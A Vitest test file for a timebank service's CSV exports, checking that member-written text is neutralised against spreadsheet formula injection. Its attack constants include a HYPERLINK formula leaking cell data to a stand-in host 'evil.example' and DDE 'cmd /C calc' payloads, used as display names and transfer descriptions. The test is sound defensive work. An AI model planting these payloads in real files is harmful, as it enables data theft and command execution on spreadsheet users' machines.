import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutraliseCell, toCsv } from '../../src/http/csv.js';
import { csvRecords, parseCsv } from '../helpers/csv.js';
import { postWithKey } from '../helpers/ledger.js';
import { seedTimebank, startTestService, type Member, type TestService } from '../helpers/service.js';

/*
 * CSV injection (OWASP): text a member wrote, opened in a coordinator's spreadsheet, must not
 * run as a formula. Every CSV the service writes prefixes such text cells with an apostrophe,
 * and leaves numbers alone.
 */

const attacks = {
  hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your hours")',
  command: "+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  tab: '\t=1+1',
};

describe('toCsv', () => {
  it('prefixes text that starts with =, +, -, @, tab or carriage return, and nothing else', () => {
    for (const text of ['=1+1', '+1', '-1', '@A1', '\tx', '\rx']) expect(neutraliseCell(text)).toBe(`'${text}`);
    for (const text of ['', 'Plain text', ' =1+1', "'=1", '1-2', 'a=b', '2026-01-01T00:00:00.000Z']) expect(neutraliseCell(text)).toBe(text);
  });

  it('decides by type: numbers stay numbers, header names stay as they are', () => {
    const rows = [{ '-minutes': -60, name: '-60', balance: -1.5, note: null, done: true }];
    const [header, row] = parseCsv(toCsv(rows, ['-minutes', 'name', 'balance', 'note', 'done']));
    expect(header).toEqual(['-minutes', 'name', 'balance', 'note', 'done']);
    expect(row).toEqual(['-60', "'-60", '-1.5', '', '1']);
    // Without a header row too (the streamed pages of an export).
    expect(parseCsv(toCsv(rows, ['name', '-minutes'], { header: false }))).toEqual([["'-60", '-60']]);
  });
});

describe('the CSVs the service writes', () => {
  let service: TestService;
  let seed: Awaited<ReturnType<typeof seedTimebank>>;
  const named: Record<string, Member> = {};

  beforeAll(async () => {
    service = await startTestService();
    seed = await seedTimebank(service);
    for (const [key, displayName] of Object.entries({ at: attacks.at, command: attacks.command, minus: attacks.minus })) {
      named[key] = await service.send<Member>('POST', `${seed.base}/members`, { displayName, email: `${key}-${Date.now()}@example.org`, password: seed.password }, seed.coordinatorToken);
    }
    const mallory = await service.login(named.at!.email, seed.password, seed.timebank.id);
    // The attacker pays for an hour, with a description meant for the coordinator's spreadsheet.
    for (const [minutes, description] of [[60, attacks.hyperlink], [15, attacks.tab], [5, attacks.command]] as const) {
      const posted = await postWithKey(service, `${seed.base}/transfers`, { payerAccountId: named.at!.accountId, payeeAccountId: seed.coordinator.accountId, minutes, description }, mallory);
      expect(posted.statusCode, posted.body).toBe(201);
    }
    // Reports read the sealed ledger.
    await service.seal();
  });
  afterAll(() => service.close());

  const csv = async (path: string) => {
    const response = await service.request({ method: 'GET', url: `${seed.base}/${path}`, token: seed.coordinatorToken, headers: { accept: 'text/csv' } });
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toContain('text/csv');
    return response.body;
  };

  it('statement: descriptions are neutralised, signed minutes stay numbers', async () => {
    const rows = csvRecords(await csv(`accounts/${named.at!.accountId}/statement`));
    expect(rows.map((row) => [row.description, row.minutes, row.balanceAfterMinutes])).toEqual([
      [`'${attacks.hyperlink}`, '-60', '-60'],
      [`'${attacks.tab}`, '-15', '-75'],
      [`'${attacks.command}`, '-5', '-80'],
    ]);
    // The JSON answer is data, not a spreadsheet: it keeps the text as written.
    const json = await service.get(`${seed.base}/accounts/${named.at!.accountId}/statement`, seed.coordinatorToken);
    expect(json.items[0].description).toBe(attacks.hyperlink);
  });

  it('members report: display names are neutralised, negative balances stay numbers', async () => {
    const rows = csvRecords(await csv('reports/members'));
    const byId = new Map(rows.map((row) => [row.memberId, row]));
    expect(byId.get(named.at!.id)).toMatchObject({ displayName: `'${attacks.at}`, receivedMinutes: '80', balanceMinutes: '-80' });
    expect(byId.get(named.command!.id)!.displayName).toBe(`'${attacks.command}`);
    expect(byId.get(named.minus!.id)!.displayName).toBe(`'${attacks.minus}`);
    expect(byId.get(seed.member.id)!.displayName).toBe('Mo Member');
    // No cell of the file starts a formula.
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) {
        if (/^[=+@\t\r]/.test(cell) || (cell.startsWith('-') && !/^-\d+(\.\d+)?$/.test(cell))) throw new Error(`${column}: ${cell}`);
      }
    }
  });

  it('mutuality report and exchange export: category names are labels inside a path, figures stay numbers', async () => {
    const category = await service.send('POST', `${seed.base}/categories`, { name: '=1+1' }, seed.coordinatorToken);
    expect(category.name).toBe('=1+1');
    const figures = parseCsv(await csv('reports/mutuality?population=all'));
    expect(figures[0]).toEqual(['figure', 'value', 'numerator', 'denominator']);
    for (const [figure] of figures.slice(1)) expect(figure).not.toMatch(/^[=+\-@\t\r]/);
    expect(figures.find(([figure]) => figure === 'minutes')).toEqual(['minutes', '80', '', '']);
    const exchanges = parseCsv(await csv('exports/exchanges'));
    expect(exchanges.slice(1).map((row) => row[3])).toEqual(expect.arrayContaining(['60', '15', '5']));
  });
});
